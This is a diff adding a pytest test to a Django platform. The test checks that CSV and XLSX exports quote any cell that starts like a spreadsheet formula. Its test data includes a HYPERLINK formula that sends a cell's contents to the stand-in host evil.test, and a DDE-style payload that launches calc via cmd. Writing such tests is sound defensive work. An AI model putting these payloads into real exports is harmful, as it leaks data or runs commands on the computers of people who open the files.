@@ -1,0 +1,67 @@
+"""No spreadsheet the platform hands over runs a formula (issue 18, item 7): a name, a note or
+a title that starts like a formula reaches every CSV and XLSX export as quoted text."""
+
+import csv
+import io
+
+import pytest
+import tablib
+
+from transfo.users.models import User
+
+HOSTILE = '=HYPERLINK("http://evil.test/?leak="&B2,"Voir")'
+STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cells(response):
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    if response["Content-Type"].startswith("text/csv"):
+        text = body.decode("utf-8-sig")
+        first = text.splitlines()[0]
+        delimiter = ";" if first.count(";") > first.count(",") else ","
+        return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+    dataset = tablib.Dataset().load(body, format="xlsx")
+    return [str(cell) for row in [dataset.headers, *dataset] for cell in row if cell is not None]
+
+
+@pytest.fixture
+def hostile(demo):
+    """The hostile text in a member's name, a labo actor, a time exchange, a published case."""
+    from cas_pratiques.models import CasPratique
+    from collectivites.models import Transfo
+    from labos.models import Acteur, EchangeTemps
+
+    strasbourg = Transfo.objects.get(slug="strasbourg")
+    User.objects.filter(email="ambassadeur@demo.test").update(full_name=HOSTILE)
+    acteur = Acteur.objects.filter(transfo=strasbourg).first()
+    acteur.nom = HOSTILE
+    acteur.notes = "@SUM(1+1)*cmd|' /C calc'!A0"
+    acteur.save()
+    EchangeTemps.objects.create(
+        transfo=strasbourg, direction=HOSTILE, sens="donne", heures=2, description="-2+3"
+    )
+    published = CasPratique.objects.publies().first()
+    CasPratique.objects.filter(pk=published.pk).update(titre=HOSTILE, resume="+33 1 23")
+    return strasbourg
+
+
+@pytest.mark.parametrize(
+    "email, path",
+    [
+        ("pilote@demo.test", "/espace/transfos/strasbourg/groupe/export.csv"),
+        ("pilote@demo.test", "/espace/transfos/strasbourg/groupe/export.xlsx"),
+        ("residente@demo.test", "/espace/transfos/strasbourg/labo/ecosysteme/export.csv"),
+        ("residente@demo.test", "/espace/transfos/strasbourg/labo/banque-de-temps/export.csv"),
+        ("coordination@demo.test", "/coordination/export.csv"),
+        (None, "/cas/export.csv"),
+    ],
+)
+def test_no_cell_of_an_export_starts_like_a_formula(client, hostile, email, path):
+    if email:
+        client.force_login(User.objects.get(email=email))
+    response = client.get(path)
+    assert response.status_code == 200, path
+    found = cells(response)
+    assert any(HOSTILE in cell for cell in found) or path == "/coordination/export.csv"
+    formulas = [cell for cell in found if cell.startswith(STARTS)]
+    assert formulas == [], path
